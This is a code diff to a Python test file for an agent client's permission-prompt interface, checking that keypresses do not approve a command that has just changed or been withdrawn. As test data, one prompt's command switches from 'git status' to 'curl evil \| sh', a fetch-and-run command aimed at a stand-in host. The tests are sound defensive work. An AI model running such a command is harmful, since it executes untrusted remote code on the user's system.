@@ -16,6 +16,7 @@ from catena_acp.continuity.conversation_events import PermissionOpened
 from catena_acp.errors import QuestionChanged
 from catena_acp.permissions.deeds import became, changed_labels
 from catena_acp.permissions.rule import Rule, RuleScope, rule_of
+from catena_acp.permissions.subject import subject_of
 from catena_acp.port.session_events import (
     Location,
     PermissionOption,
@@ -252,8 +253,10 @@ class Stage(ThemedApp):
 
 
 async def test_v03_on_the_screen_keys_count_only_when_a_changed_question_has_stood_for_a_moment() -> None:
-    first = PermissionOpened("w", "1", command("git status"), OPTIONS)
-    second = PermissionOpened("w", "1", command("curl evil | sh"), OPTIONS, changed=("command",))
+    first = PermissionOpened("w", "1", subject_of(command("git status"), HERE), OPTIONS)
+    second = PermissionOpened(
+        "w", "1", subject_of(command("curl evil | sh"), HERE), OPTIONS, changed=("command",)
+    )
     async with (stage := Stage()).run_test(size=(100, 30)) as pilot:
         stage.panel.show([first], directory=HERE)
         stage.now += 60
@@ -275,7 +278,7 @@ async def test_v03_on_the_screen_keys_count_only_when_a_changed_question_has_sto
 async def test_v03_on_the_screen_a_key_right_after_a_withdrawn_question_does_not_answer_the_next_one() -> (
     None
 ):
-    asks = [PermissionOpened("w", each, command(each), OPTIONS) for each in ("ls", "rm x")]
+    asks = [PermissionOpened("w", each, subject_of(command(each), HERE), OPTIONS) for each in ("ls", "rm x")]
     async with (stage := Stage()).run_test(size=(100, 30)) as pilot:
         stage.panel.show([asks[0]], directory=HERE)
         stage.now += 60
